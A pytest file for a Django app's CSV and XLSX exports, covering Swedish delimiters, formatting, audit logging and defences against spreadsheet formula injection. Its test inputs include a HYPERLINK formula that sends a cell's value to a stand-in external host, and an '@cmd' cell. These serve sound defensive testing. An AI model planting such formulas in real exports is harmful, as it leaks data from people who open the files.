import csv
import datetime
import io
from decimal import Decimal

import pytest
from django_scopes import scope
from openpyxl import load_workbook

from quality import services
from quality.models import QualityEvent
from units.exports import table_bytes
from units.models import AuditEvent


def test_csv_keeps_decimals_exact_and_swedish_letters():
    content = table_bytes(headers=["kommun", "timmar"], rows=[["Söderköping", Decimal("1.25")]], fmt="csv")
    # Issue 18: what Swedish and Danish Excel open as columns — semicolons and decimal commas.
    assert content.decode("utf-8-sig").splitlines() == ["kommun;timmar", "Söderköping;1,25"]
    plain = table_bytes(headers=["kommun", "timmar"], rows=[["Söderköping", Decimal("1.25")]], fmt="csv",
                        dialect="comma")
    assert plain.decode("utf-8-sig").splitlines() == ["kommun,timmar", "Söderköping,1.25"]


def test_xlsx_has_a_bold_header_and_numbers_as_numbers():
    content = table_bytes(headers=["kommun", "samtal"], rows=[["Finspång", 12], ["Norrköping", None]], fmt="xlsx")
    sheet = load_workbook(io.BytesIO(content)).active
    assert [cell.value for cell in sheet[1]] == ["kommun", "samtal"]
    assert sheet[1][0].font.bold
    assert sheet["B2"].value == 12
    assert sheet["B3"].value is None


# --- Exports are inert (issue #11, finding 4) ---------------------------------------------------

HYPERLINK = '=HYPERLINK("http://example.invalid/?d="&A1,"Se detaljer")'
FORMULA_SHAPED = ["=1+1", "+SUM(A1)", "-2+3", "@cmd", "\t=1", "\r=1", HYPERLINK]


def _csv_cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def _assert_inert_xlsx(content: bytes, texts: list[str]):
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    values = [cell.value for cell in cells]
    for text in texts:
        # XML keeps no carriage return: XLSX line breaks are "\n".
        assert text.replace("\r", "\n") in values
    return sheet


def _assert_escaped_csv(content: bytes, texts: list[str]):
    values = [value for row in _csv_cells(content) for value in row]
    for text in texts:
        assert "'" + text in values
        assert text not in values


def test_xlsx_string_cells_are_text_never_formulas_and_numbers_stay_numbers():
    rows = [[text, -5, Decimal("-1.25")] for text in FORMULA_SHAPED]
    content = table_bytes(headers=["=header", "n", "amount"], rows=rows, fmt="xlsx")
    sheet = _assert_inert_xlsx(content, ["=header", *FORMULA_SHAPED])
    assert sheet["B2"].value == -5 and sheet["B2"].data_type == "n"
    assert sheet["C2"].value == Decimal("-1.25") or sheet["C2"].value == -1.25
    assert sheet["C2"].data_type == "n"


def test_csv_cells_that_could_run_as_formulas_are_written_as_text():
    rows = [[text, -5, Decimal("-1.25"), "-7.50"] for text in FORMULA_SHAPED]
    content = table_bytes(headers=["=header", "n", "amount", "as text"], rows=rows, fmt="csv")
    assert content.startswith("\ufeff".encode())
    _assert_escaped_csv(content, ["=header", *FORMULA_SHAPED])
    # Numbers, and numbers already written as text, are left as they are.
    assert all(row[1:] == ["-5", "-1,25", "-7.50"] for row in _csv_cells(content)[1:])


def test_xlsx_drops_control_characters_openpyxl_refuses_instead_of_failing():
    content = table_bytes(headers=["text"], rows=[["bell\x07 and \x0bvertical tab"]], fmt="xlsx")
    assert load_workbook(io.BytesIO(content)).active["A2"].value == "bell and vertical tab"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_complaint_texts_shaped_like_formulas_are_inert_in_the_chiefs_export(anna_client, anna, unit_a, fmt):
    day = datetime.date(datetime.date.today().year, 3, 15)
    with scope(unit=unit_a):
        for text in FORMULA_SHAPED:
            services.quality_event_save(unit=unit_a, acting_user=anna, kind=QualityEvent.Kind.COMPLAINT, date=day,
                                        description=text, measures="-Ringde tillbaka")
    response = anna_client.get(f"/{unit_a.slug}/quality/events/", {"year": day.year, "format": fmt})
    assert response.status_code == 200
    assert response["Content-Disposition"] == f'attachment; filename="quality-events-{day.year}.{fmt}"'
    if fmt == "xlsx":
        _assert_inert_xlsx(response.content, [*FORMULA_SHAPED, "-Ringde tillbaka"])
    else:
        _assert_escaped_csv(response.content, [*FORMULA_SHAPED, "-Ringde tillbaka"])
    assert AuditEvent.objects.filter(unit=unit_a, user=anna, action=f"export.{fmt}",
                                     object_id=f"quality-events-{day.year}").count() == 1
    with scope(unit=unit_a):
        # The export changes nothing: the texts are stored as typed.
        assert sorted(QualityEvent.objects.values_list("description", flat=True)) == sorted(FORMULA_SHAPED)


def test_xlsx_names_its_sheet_fits_its_columns_and_freezes_the_header():
    # Issue 18: "XLSX: named sheets, column widths that fit, … dates as dates, a header row frozen".
    content = table_bytes(headers=["kommun", "datum"], rows=[["Norrköping med omnejd", datetime.date(2025, 3, 1)]],
                          fmt="xlsx", sheet="queue-by-month-alpha-2025-03")
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet.title == "queue-by-month-alpha-2025-03"
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["A"].width >= len("Norrköping med omnejd")
    assert sheet["B2"].is_date


def test_the_browser_download_takes_the_dialect_programs_ask_for(alice_client, unit_a):
    semicolon = alice_client.get(f"/{unit_a.slug}/visits/", {"export": "csv"}).content.decode("utf-8-sig")
    comma = alice_client.get(f"/{unit_a.slug}/visits/", {"export": "csv", "dialect": "comma"})
    comma = comma.content.decode("utf-8-sig")
    assert semicolon.splitlines()[0] == "Kanal;Idag;Denna vecka;Denna månad"
    assert comma.splitlines()[0] == "Kanal,Idag,Denna vecka,Denna månad"
    unknown = alice_client.get(f"/{unit_a.slug}/visits/", {"export": "csv", "dialect": "tab"}).content
    assert unknown.decode("utf-8-sig") == semicolon


def test_a_streamed_csv_needs_the_unit_it_is_read_in(db, alice):
    """scope(unit=None) would mean every unit: the streamed export refuses to start without one."""
    from django.core.exceptions import ImproperlyConfigured
    from django.test import RequestFactory

    from units.exports import streamed_csv_response

    request = RequestFactory().get("/")
    request.user = alice
    with pytest.raises(ImproperlyConfigured):
        streamed_csv_response(request, unit=None, filename="sessions", headers=["a"], rows=iter([]))
    assert not AuditEvent.objects.filter(action="export.csv").exists()
